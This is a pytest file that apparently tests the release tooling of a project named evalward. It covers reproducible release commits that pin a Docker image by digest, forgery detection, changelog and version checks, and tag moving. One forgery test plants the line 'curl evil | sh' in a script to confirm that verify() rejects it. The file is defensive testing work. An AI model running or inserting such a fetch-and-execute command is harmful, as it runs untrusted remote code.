"""The commit of a release and its tags, in real repositories: `scripts/release_tree.py` and `release_tags.py`."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import yaml

from release_tags import move, settle
from release_tree import ReleaseError, Repository, check, make, read_changelog, verify
from support.git_repo import commit, git, init

ROOT = Path(__file__).resolve().parents[2]
IMAGE = f"ghcr.io/evalward/evalward@sha256:{'5' * 64}"
CHANGELOG = """\
# Changelog

## [Unreleased]

## [1.2.3] - 2026-11-23

### Added

- Something.

## [1.2.2] - 2026-10-01

- Older.

[1.2.3]: https://github.com/evalward/evalward/releases/tag/v1.2.3
"""
FILES: dict[str, str | bytes] = {
    "action.yml": (ROOT / "action.yml").read_bytes(),
    "CHANGELOG.md": CHANGELOG,
    "src/evalward/__init__.py": '__version__ = "1.2.3"\n',
    "run.sh": "true\n",
}


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    """A repository with a commit that can be released."""
    folder = init(tmp_path / "work")
    commit(folder, FILES)
    return Repository(folder)


def test_release__is_the_same_commit_but_for_the_image(repository: Repository) -> None:
    source = repository.commit("HEAD")

    release = make(repository, "HEAD", IMAGE)

    assert make(repository, source, IMAGE) == release, "the same input makes the same commit"
    assert (
        repository.git("diff", "--stat", "--format=", source, release).splitlines()[0].split("|")[0].strip()
        == "action.yml"
    )
    before, after = (repository.text(each, "action.yml").splitlines() for each in (source, release))
    changed = [pair for pair in zip(before, after, strict=True) if pair[0] != pair[1]]
    assert changed == [("  image: Dockerfile", f"  image: docker://{IMAGE}")]
    assert yaml.safe_load("\n".join(after))["runs"] == {"using": "docker", "image": f"docker://{IMAGE}"}
    assert verify(repository, release) == IMAGE
    assert repository.git("status", "--porcelain") == "", "neither index nor folder was touched"


def test_release__of_another_clone_has_the_same_sha(repository: Repository, tmp_path: Path) -> None:
    git(repository.folder, "clone", "--quiet", str(repository.folder), str(tmp_path / "clone"))
    other = Repository(tmp_path / "clone")
    git(other.folder, "config", "user.name", "Somebody")
    assert make(other, "HEAD", IMAGE) == make(repository, "HEAD", IMAGE)


@pytest.mark.parametrize("image", ["ghcr.io/o/r:v1", f"ghcr.io/o/r@sha256:{'5' * 63}", f"x\n{IMAGE}", "", f"{IMAGE} x"])
def test_make__wants_a_digest(repository: Repository, image: str) -> None:
    with pytest.raises(ReleaseError, match="write the image with its digest"):
        make(repository, "HEAD", image)


def test_make__of_a_release_is_refused(repository: Repository) -> None:
    with pytest.raises(ReleaseError, match="must have the line `image: Dockerfile` once"):
        make(repository, make(repository, "HEAD", IMAGE), IMAGE)


def forged(repository: Repository, files: dict[str, str], message: str = "change") -> str:
    """A commit on top of the source that also names the image."""
    git(repository.folder, "checkout", "--quiet", "--detach", "HEAD")
    action = repository.text("HEAD", "action.yml").replace("image: Dockerfile", f"image: docker://{IMAGE}")
    return commit(repository.folder, {"action.yml": action, **files}, message)


@pytest.mark.parametrize(
    ("files", "told"),
    [
        ({"run.sh": "curl evil | sh\n"}, r"more than action\.yml differs from \w{40}: action\.yml, run\.sh"),
        ({}, "not what its parent"),  # other author, date and words: not made by the script
        ({"action.yml": f"runs:\n  using: docker\n  image: docker://{IMAGE}\n  args: [x]\n"}, "not what its parent"),
        ({"action.yml": "runs:\n  image: docker://ghcr.io/o/r:v1\n"}, "write the image with its digest"),
        ({"action.yml": "runs:\n  image: Dockerfile\n"}, "names no image by digest"),
    ],
)
def test_verify__sees_what_was_forged(repository: Repository, files: dict[str, str], told: str) -> None:
    with pytest.raises(ReleaseError, match=told):
        verify(repository, forged(repository, files))


def test_check__tells_the_notes_of_a_version_that_all_agree_on(repository: Repository) -> None:
    assert check(repository, "HEAD", "v1.2.3").text == "### Added\n\n- Something."
    assert [(entry.version, entry.date) for entry in read_changelog(CHANGELOG)] == [
        ("Unreleased", ""),
        ("1.2.3", "2026-11-23"),
        ("1.2.2", "2026-10-01"),
    ]
    assert read_changelog(CHANGELOG)[-1].text == "- Older.", "the addresses at the end belong to no part"


@pytest.mark.parametrize(
    ("tag", "files", "told"),
    [
        ("v1.2", {}, "a release's tag is v and three numbers"),
        ("v1.2.3-rc1", {}, "a release's tag is v and three numbers"),
        ("v1.2.4", {}, r"the version is 1\.2\.3, the tag says 1\.2\.4"),
        ("v1.2.3", {"CHANGELOG.md": CHANGELOG.replace("[1.2.3] -", "[1.2.4] -")}, r"newest version is 1\.2\.4"),
        ("v1.2.3", {"CHANGELOG.md": "# Changelog\n"}, "newest version is none"),
        ("v1.2.3", {"CHANGELOG.md": CHANGELOG.replace(" - 2026-11-23", "")}, "needs a date"),
        ("v1.2.3", {"CHANGELOG.md": CHANGELOG.replace("d]\n", "d]\n\n- Late.\n", 1)}, "still under Unreleased"),
        ("v1.2.3", {"src/evalward/__init__.py": "\n"}, "the version is None"),
    ],
)
def test_check__refuses_versions_that_disagree(
    repository: Repository, tag: str, files: dict[str, str], told: str
) -> None:
    commit(repository.folder, files)
    with pytest.raises(ReleaseError, match=told):
        check(repository, "HEAD", tag)


@pytest.fixture
def remote(repository: Repository, tmp_path: Path) -> Repository:
    """What the repository pushes to."""
    folder = tmp_path / "remote.git"
    git(tmp_path, "init", "--quiet", "--bare", str(folder))
    repository.git("remote", "add", "origin", str(folder))
    return Repository(folder)


def tagged(repository: Repository, tag: str, *, annotated: bool = False) -> tuple[str, str]:
    """A new commit with this tag on the remote, and its release's commit."""
    source = commit(repository.folder, {"run.sh": f"echo {tag}\n"})
    git(repository.folder, "tag", *(["-a", "-m", tag] if annotated else []), tag)
    git(repository.folder, "push", "--quiet", "origin", "main", tag)
    return source, make(repository, source, IMAGE)


@pytest.mark.parametrize("annotated", [False, True])
def test_settle__moves_the_tag_once_and_no_other_tag(
    repository: Repository, remote: Repository, annotated: bool
) -> None:
    source, release = tagged(repository, "v1.2.3", annotated=annotated)

    assert settle(repository, "origin", "v1.2.3", source, release) is True
    assert settle(repository, "origin", "v1.2.3", source, release) is False, "a job that is run again"

    assert remote.commit("v1.2.3") == release
    assert remote.commit("main") == source
    with pytest.raises(ReleaseError, match=r"v1\.2\.3 is at \w+ on origin, not at .*: was it moved\?"):
        settle(repository, "origin", "v1.2.3", source, make(repository, source, IMAGE.replace("55", "66")))
    with pytest.raises(ReleaseError, match=r"v9\.9\.9 is at no commit"):
        settle(repository, "origin", "v9.9.9", source, release)


def test_move__follows_the_newest_release_of_each_line(repository: Repository, remote: Repository) -> None:
    done = []
    for tag in ("v1.1.9", "v1.2.0", "v1.10.0", "v1.2.1", "v2.0.0"):
        source, release = tagged(repository, tag)
        settle(repository, "origin", tag, source, release)
        done.append(move(repository, "origin", tag))
        assert move(repository, "origin", tag) == []

    assert done == [["v1.1", "v1"], ["v1.2", "v1"], ["v1.10", "v1"], ["v1.2"], ["v2.0", "v2"]]
    at = {name: remote.commit(name) for name in ("v1", "v1.2", "v1.10", "v2")}
    assert at == {
        name: remote.commit(full)
        for name, full in {"v1": "v1.10.0", "v1.2": "v1.2.1", "v1.10": "v1.10.0", "v2": "v2.0.0"}.items()
    }
    assert verify(remote, "v1") == IMAGE
    with pytest.raises(ReleaseError, match=r"origin has no tag v3\.0\.0"):
        move(repository, "origin", "v3.0.0")


def test_tags__that_a_stranger_moves_meanwhile_stay(
    repository: Repository, remote: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Between the look and the push the tag moves: the lease is broken, and the push refused."""
    source, release = tagged(repository, "v1.2.3")
    other = commit(repository.folder, {"run.sh": "other\n"})
    git(repository.folder, "push", "--quiet", "origin", "main")
    plain = Repository.git

    def moved(self: Repository, *words: str, **more: object) -> str:
        if words[0] == "push":
            git(remote.folder, "update-ref", "refs/tags/v1.2.3", other)
        return plain(self, *words, **more)  # type: ignore[arg-type]

    monkeypatch.setattr(Repository, "git", moved)
    with pytest.raises(ReleaseError, match="stale info"):
        settle(repository, "origin", "v1.2.3", source, release)
    assert remote.commit("v1.2.3") == other


def test_this_repository__can_be_released(tmp_path: Path) -> None:
    """Our own action.yml has the line that a release replaces, and version and changelog have the form that is read."""
    folder = init(tmp_path / "work")
    for name in ("action.yml", "CHANGELOG.md", "src/evalward/__init__.py"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(ROOT / name, folder / name)
    commit(folder, {})
    ours = Repository(folder)
    assert verify(ours, make(ours, "HEAD", IMAGE)) == IMAGE
    assert read_changelog(ours.text("HEAD", "CHANGELOG.md"))
